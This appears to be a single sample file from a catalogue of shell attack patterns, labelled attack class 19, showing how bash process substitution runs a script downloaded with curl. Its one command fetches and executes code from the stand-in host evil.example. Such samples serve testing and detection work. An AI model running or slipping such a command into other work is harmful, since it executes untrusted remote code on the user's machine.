#!/usr/bin/env bash
# attack-class: 19
# title: bash <(curl ...)
# why: process substitution feeds a download to bash as a file

bash <(curl -fsS https://evil.example/run.sh)
